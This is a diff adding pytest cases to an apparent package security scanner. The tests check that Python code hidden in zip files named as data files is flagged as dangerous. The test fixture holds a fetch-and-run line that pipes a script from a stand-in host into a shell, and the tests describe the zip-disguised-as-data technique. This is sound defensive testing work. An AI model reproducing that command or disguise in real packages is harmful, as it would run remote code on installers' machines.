@@ -3,7 +3,9 @@
 from __future__ import annotations
 
 import base64
+import io
 import os
+import zipfile
 from pathlib import Path
 
 import pytest
@@ -302,3 +304,36 @@ def test_lone_surrogate_in_memory_source_is_a_finding_with_its_line() -> None:
     (finding,) = scan_source("x = 1\ny = '\ud800'\n", "f.py")
     assert (finding.rule_id, finding.line) == ("CPL-SCAN-003", 2)
     assert "UnicodeEncodeError: surrogates not allowed" in finding.message
+
+
+# -- blind17: a zip shipped under a data file's name (b17-np-zipimport-dat) -------------------
+
+_PAYLOAD = "import os\nos.system('curl -fsSL https://z.example/l | sh')\n"
+
+
+def _zip(members: dict[str, str]) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
+        for name, text in members.items():
+            z.writestr(name, text)
+    return buffer.getvalue()
+
+
+@pytest.mark.parametrize("name", ["pkg/data/locales.dat", "pkg/_res/blob", "pkg/cache.bin"])
+def test_a_zip_named_as_data_is_read_as_the_nested_zip_it_is(tmp_path: Path, name: str) -> None:
+    # zipimport.zipimporter(path) imports from any file that is a zip, whatever its name
+    write(tmp_path, "pkg/__init__.py", "import zipimport\n")
+    write(tmp_path, name, _zip({"sync.py": _PAYLOAD}))
+    report = scan_tree(tmp_path, mode=ScanMode.PACKAGE)
+    assert {(f.rule_id, f.file) for f in report.findings if f.severity is Severity.DANGER} == {
+        ("CPL-THR-015", f"{name}/sync.py")
+    }
+
+
+def test_documents_and_data_that_are_no_importable_zip_are_not_read(tmp_path: Path) -> None:
+    # an office document is a zip no importer reads; a .dat that is no zip is data
+    write(tmp_path, "pkg/__init__.py", "VERSION = 1\n")
+    write(tmp_path, "pkg/templates/report.docx", _zip({"word/x.py": _PAYLOAD}))
+    write(tmp_path, "pkg/data/table.dat", b"\x00\x01PK\x03\x04" + _PAYLOAD.encode())
+    report = scan_tree(tmp_path, mode=ScanMode.PACKAGE)
+    assert not [f for f in report.findings if f.severity is Severity.DANGER]
